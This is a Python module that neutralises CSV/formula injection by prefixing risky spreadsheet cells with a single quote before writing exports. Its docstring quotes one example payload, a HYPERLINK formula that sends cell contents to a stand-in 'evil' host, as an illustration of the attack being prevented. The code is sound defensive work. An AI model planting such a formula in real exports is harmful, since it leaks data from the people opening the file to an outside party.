"""CSV that a spreadsheet opens as data: every CSV the platform writes goes through `writer` here.

A cell that starts with = + - @ (or a tab or carriage return) is a formula to Excel, LibreOffice and
Google Sheets, so a merchant named `=HYPERLINK("http://evil/?"&A1,"click")` would come out live in a
regulator's or the public's export (CSV injection). As OWASP recommends, such a cell is prefixed with a
single quote, which the spreadsheet shows as text; the value itself stays readable. Numbers are left
alone: a number is never a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def neutralise(value: Any) -> Any:
    """A cell's value as safe to open in a spreadsheet (None becomes an empty cell)."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose every cell is neutralised first."""

    def __init__(self, fh: _Writable, **fmt: Any) -> None:
        self._writer = csv.writer(fh, **fmt)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(fh: _Writable, **fmt: Any) -> SafeWriter:
    return SafeWriter(fh, **fmt)
